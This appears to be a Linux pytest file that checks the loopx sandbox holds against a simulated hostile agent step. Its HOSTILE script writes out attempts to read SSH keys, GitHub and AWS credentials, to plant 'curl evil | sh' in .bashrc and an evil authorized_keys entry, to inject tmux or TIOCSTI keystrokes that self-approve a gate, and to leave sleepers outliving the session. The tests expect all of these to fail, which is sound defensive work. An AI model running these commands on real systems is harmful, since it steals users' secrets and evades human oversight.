"""The world a step sees (loopx/sandbox/world.py), tried by a hostile agent inside a real ``loopx turn``.

The user's machine in miniature (tests.test_confine_attacks' ``world``): a home with an ssh key,
shell files, a GitHub token and cloud credentials; a tmux server of the user's; an abstract unix
socket of the user's (as X11 and D-Bus use); ``loopx turn`` on a terminal of its own. The shell
executor's step tries each, printing ``ATTACK <name> <ok|refused> ...``; its legitimate work
(the broker, its workdir, its /tmp) still goes through.
"""

from __future__ import annotations

import fcntl
import json
import os
import shutil
import socket
import subprocess
import sys
import termios
import uuid
from pathlib import Path

import pytest

from loopx.ledger.registry import Registry
from tests.test_confine_attacks import world  # noqa: F401  (the fixture)
from tests.test_turn_helpers import PY, make_goal

pytestmark = [pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux namespaces and Landlock"),
              pytest.mark.skipif(shutil.which("bwrap") is None,
                                 reason="needs bubblewrap (scripts/test.sh installs it)")]

TRY = r"""set +e
try() { name=$1; shift; out="$TMPDIR/attack.$$"; if "$@" >"$out" 2>&1; then r=ok; else r=refused; fi; echo "ATTACK $name $r $(head -c 300 "$out" | tr '\n' ' ')"; }
"""

TIOCSTI = ("import fcntl, os, sys, termios\n"
           "hit = []\n"
           "for path in sys.argv[1:]:\n"
           "    try:\n"
           "        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)\n"
           "    except OSError as exc:\n"
           "        print(path, exc); continue\n"
           "    try:\n"
           "        for c in b'loopx gate approve\\n':\n"
           "            fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n"
           "        hit.append(path)\n"
           "    except OSError as exc:\n"
           "        print(path, exc)\n"
           "print('typed into', hit)\n"
           "sys.exit(0 if hit else 1)\n")

ABSTRACT = ("import socket, sys\n"
            "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            "s.connect(sys.argv[1].replace('@', '\\0', 1))\n"
            "s.sendall(b'hello from the step')\n")

HOSTILE = r"""
try tmux_send_keys tmux -S {sock} send-keys -t victim "touch {marker}" Enter
try tmux_list tmux -S {sock} list-sessions
try ssh_key_read cat {home}/.ssh/id_ed25519
try ssh_list ls {home}/.ssh
try authorized_keys sh -c 'echo "ssh-ed25519 AAAA evil" >> {home}/.ssh/authorized_keys'
try bashrc_read cat {home}/.bashrc
try bashrc_append sh -c 'echo "curl evil | sh" >> {home}/.bashrc'
try gh_token cat {home}/.config/gh/hosts.yml
try aws_credentials cat {home}/.aws/credentials
try turn_environ sh -c 'while [ ! -s turnpid ]; do sleep 0.05; done; cat /proc/$(cat turnpid)/environ'
try any_environ sh -c 'grep -l pg-secret-password /proc/[0-9]*/environ'
try tiocsti {py} -c "$(cat tiocsti.py)" /dev/tty {tty}
try abstract_socket {py} -c "$(cat abstract.py)" {abstract}
try shm_and_tmp sh -c 'echo left > /dev/shm/{tag} && echo left > /tmp/{tag} && cat /dev/shm/{tag} /tmp/{tag}'
try sleepers sh -c 'for i in $(seq 50); do setsid sh -c "sleep {nap} > /dev/null 2>&1 &"; done; n=0; for f in /proc/[0-9]*/cmdline; do tr "\0" " " < $f 2>/dev/null | grep -q "^sleep {nap}" && n=$((n+1)); done; echo "running $n"; test $n = 50'
try legit_evidence loopx evidence add --kind note --summary "the agent's own note"
try legit_work sh -c 'echo fine > new-file.txt'
"""

NEXT = r"""
try shm_seen cat /dev/shm/{tag}
try tmp_seen cat /tmp/{tag}
try legit_evidence loopx evidence add --kind note --summary "the next step's note"
"""

REFUSED = ["tmux_send_keys", "tmux_list", "ssh_key_read", "ssh_list", "authorized_keys", "bashrc_read",
           "bashrc_append", "gh_token", "aws_credentials", "turn_environ", "any_environ", "tiocsti", "abstract_socket"]
LEGIT = ["shm_and_tmp", "sleepers", "legit_evidence", "legit_work"]


def _results(text: str) -> dict:
    out = {}
    for line in text.splitlines():
        if line.startswith("ATTACK "):
            parts = line.split(" ", 3)
            out[parts[1]] = (parts[2], parts[3] if len(parts) > 3 else "")
    return out


def _output(url: str, run_id: str) -> str:
    with Registry.open(url) as reg, reg.read() as tx:
        row = tx.one("SELECT data FROM evidence WHERE run_id = ? AND kind = 'command'", (run_id,))
    return json.loads(row["data"])["output_tail"]


def _running(pattern: str) -> list[int]:
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    if f.read().replace(b"\0", b" ").startswith(pattern.encode()):
                        found.append(int(name))
            except OSError:
                pass
    return found


@pytest.fixture
def users_things(world):  # noqa: F811
    """The user's secrets in their home, a tmux server and an abstract socket of theirs."""
    home = world["home"]
    (home / ".ssh").mkdir(mode=0o700)
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY----- secret\n")
    (home / ".ssh" / "authorized_keys").write_text("")
    (home / ".bashrc").write_text("# the user's shell\n")
    (home / ".config" / "gh").mkdir(parents=True)
    (home / ".config" / "gh" / "hosts.yml").write_text("oauth_token: gho_secret\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key = secret\n")
    sock = world["tmp"] / "tmux-user.sock"
    tmux = shutil.which("tmux")
    if tmux:
        subprocess.run([tmux, "-S", str(sock), "new-session", "-d", "-s", "victim", "sh"], check=True,
                       env={**os.environ, "HOME": str(home)}, timeout=30)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    name = f"loopx-test-user-{uuid.uuid4().hex[:8]}"
    listener.bind("\0" + name)
    listener.listen(4)
    listener.settimeout(0)
    try:
        yield {"sock": sock, "abstract": "@" + name, "listener": listener, "tmux": tmux}
    finally:
        listener.close()
        if tmux:
            subprocess.run([tmux, "-S", str(sock), "kill-server"], capture_output=True, timeout=30)


def _turn_on_a_terminal(world, goal: str, master: int, slave: int):  # noqa: F811
    """``loopx turn`` on the terminal ``slave`` (its controlling tty)."""

    def own_tty():
        fcntl.ioctl(0, termios.TIOCSCTTY, 0)

    p = subprocess.Popen([PY, "-m", "loopx", "--format", "json", "turn", "--goal-id", goal, "--executor", "shell"],
                         env=world["env"], cwd=world["work"], stdin=slave,
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True,
                         preexec_fn=own_tty)
    os.close(slave)
    return p


def test_a_hostile_step_sees_only_its_world_and_leaves_nothing_behind(world, users_things):  # noqa: F811
    tag, nap = f"loopx-world-{uuid.uuid4().hex[:8]}", str(7000 + os.getpid() % 1000) + ".5"
    marker = world["tmp"] / "typed-by-the-agent"
    reg = Registry.open(world["url"])
    made = make_goal(reg, acts={"work": ["sh", "hostile.sh"]})
    reg.close()
    (world["work"] / "tiocsti.py").write_text(TIOCSTI)
    (world["work"] / "abstract.py").write_text(ABSTRACT)
    master, slave = os.openpty()
    (world["work"] / "hostile.sh").write_text(TRY + HOSTILE.format(
        sock=users_things["sock"], marker=marker, home=world["home"], py=PY, tty=os.ttyname(slave),
        abstract=users_things["abstract"], tag=tag, nap=nap))
    p = _turn_on_a_terminal(world, made["goal"], master, slave)
    (world["work"] / "turnpid").write_text(str(p.pid))
    out, err = p.communicate(timeout=300)
    os.set_blocking(master, False)
    try:
        typed = os.read(master, 65536)
    except OSError:
        typed = b""
    os.close(master)
    t = json.loads(out)
    results = _results(_output(world["url"], t["run_id"]))
    assert set(results) == set(REFUSED + LEGIT), (results, err[-2000:])
    worked = {n: r for n, r in results.items() if n in REFUSED and r[0] == "ok"}
    assert not worked, worked
    assert all(results[n][0] == "ok" for n in LEGIT), {n: results[n] for n in LEGIT}
    assert t["outcome"] == "ok", t["handoff"]
    # Nothing reached the user: no keys typed, no connection, files as they were.
    assert b"gate approve" not in typed
    with pytest.raises(BlockingIOError):
        users_things["listener"].accept()
    assert not marker.exists()
    if users_things["tmux"]:
        shown = subprocess.run([users_things["tmux"], "-S", str(users_things["sock"]), "capture-pane", "-p",
                                "-t", "victim"], capture_output=True, text=True, timeout=30).stdout
        assert "touch" not in shown
    assert (world["home"] / ".bashrc").read_text() == "# the user's shell\n"
    assert (world["home"] / ".ssh" / "authorized_keys").read_text() == ""
    assert "secret" not in json.dumps(results) and "pg-secret-password" not in json.dumps(results)
    # The step's /dev/shm and /tmp were its own, and are gone; so are its 50 setsid sleepers.
    assert not os.path.exists(f"/dev/shm/{tag}") and not os.path.exists(f"/tmp/{tag}")
    assert _running(f"sleep {nap}") == []
    where = json.loads(subprocess.run([PY, "-m", "loopx", "--format", "json", "workspace", "show", made["goal"]],
                                      env=world["env"], capture_output=True, text=True, timeout=60).stdout)
    assert (Path(where["workspace"]) / "new-file.txt").read_text() == "fine\n"

    # The next step does not see what the first one left in /tmp or /dev/shm.
    reg = Registry.open(world["url"])
    second = make_goal(reg, acts={"work": ["sh", "next.sh"]})
    reg.close()
    (world["work"] / "next.sh").write_text(TRY + NEXT.format(tag=tag))
    q = subprocess.run([PY, "-m", "loopx", "--format", "json", "turn", "--goal-id", second["goal"], "--executor",
                        "shell"], env=world["env"], cwd=world["work"], capture_output=True, text=True, timeout=300)
    t2 = json.loads(q.stdout)
    after = _results(_output(world["url"], t2["run_id"]))
    assert after["shm_seen"][0] == after["tmp_seen"][0] == "refused", after
    assert after["legit_evidence"][0] == "ok" and t2["outcome"] == "ok", after


def test_without_bubblewrap_a_turn_is_refused_unless_the_user_accepts_landlock_alone(world):  # noqa: F811
    reg = Registry.open(world["url"])
    made = make_goal(reg, acts={"work": ["sh", "-c", "loopx evidence add --kind note --summary ran"]})
    reg.close()
    gone = {"LOOPX_BWRAP": str(world["tmp"] / "no-such-bwrap")}
    p = subprocess.run([PY, "-m", "loopx", "--format", "json", "turn", "--goal-id", made["goal"], "--executor",
                        "shell"], env={**world["env"], **gone}, cwd=world["work"], capture_output=True, text=True,
                       timeout=300)
    error = json.loads(p.stdout)["error"]
    assert p.returncode == 2 and error["code"] == "confinement_unavailable", p
    assert "bubblewrap" in error["message"] and "LOOPX_CONFINE_BACKEND=landlock" in error["message"]
    with Registry.open(world["url"]) as reg, reg.read() as tx:
        assert tx.query("SELECT id FROM runs") == []  # nothing was opened, nothing charged
    # The user's explicit choice of the weaker confinement: Landlock alone, no world.
    p = subprocess.run([PY, "-m", "loopx", "--format", "json", "turn", "--goal-id", made["goal"], "--executor",
                        "shell"], env={**world["env"], **gone, "LOOPX_CONFINE_BACKEND": "landlock"},
                       cwd=world["work"], capture_output=True, text=True, timeout=300)
    assert json.loads(p.stdout)["outcome"] == "ok", p


GRANTED = r"""
try notes_read cat {notes}/todo.txt
try notes_write sh -c 'echo agent >> {notes}/todo.txt'
try socket_connect {py} -c "import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(b'hi')" {sock}
try config_set loopx config set world.grant.{goal} /
"""


@pytest.mark.slow
def test_the_user_grants_a_goal_a_read_only_path_and_a_socket_and_only_the_user_can(world):  # noqa: F811
    notes = world["home"] / "notes"
    notes.mkdir()
    (notes / "todo.txt").write_text("the user's notes\n")
    sock_path = world["tmp"] / "user-service.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(sock_path))
    server.listen(4)
    server.settimeout(0)
    reg = Registry.open(world["url"])
    made = make_goal(reg, acts={"work": ["sh", "granted.sh"]})
    reg.close()
    (world["work"] / "granted.sh").write_text(TRY + GRANTED.format(notes=notes, py=PY, sock=sock_path,
                                                                   goal=made["goal"]))

    def turn():
        p = subprocess.run([PY, "-m", "loopx", "--format", "json", "turn", "--goal-id", made["goal"], "--executor",
                            "shell"], env=world["env"], cwd=world["work"], capture_output=True, text=True,
                           timeout=300)
        return _results(_output(world["url"], json.loads(p.stdout)["run_id"]))

    try:
        before = turn()
        assert [before[n][0] for n in ("notes_read", "socket_connect")] == ["refused", "refused"], before
        with pytest.raises(BlockingIOError):
            server.accept()
        bad = subprocess.run([PY, "-m", "loopx", "config", "set", f"world.grant.{made['goal']}", "notes"],
                             env=world["env"], capture_output=True, text=True, timeout=60)
        assert bad.returncode == 2 and "invalid_argument" in bad.stderr, bad
        subprocess.run([PY, "-m", "loopx", "config", "set", f"world.grant.{made['goal']}", f"{notes}:{sock_path}"],
                       env=world["env"], check=True, capture_output=True, timeout=60)
        reg = Registry.open(world["url"])
        from loopx.domain import todos

        todos.add(reg, "user", goal_id=made["goal"], text="again")
        reg.close()
        after = turn()
        assert after["notes_read"][0] == "ok" and "the user's notes" in after["notes_read"][1], after
        assert after["socket_connect"][0] == "ok", after
        conn, _ = server.accept()
        conn.close()
        # Read-only, and the agent cannot widen its own world.
        assert after["notes_write"][0] == "refused" and after["config_set"][0] == "refused", after
        assert (notes / "todo.txt").read_text() == "the user's notes\n"
    finally:
        server.close()
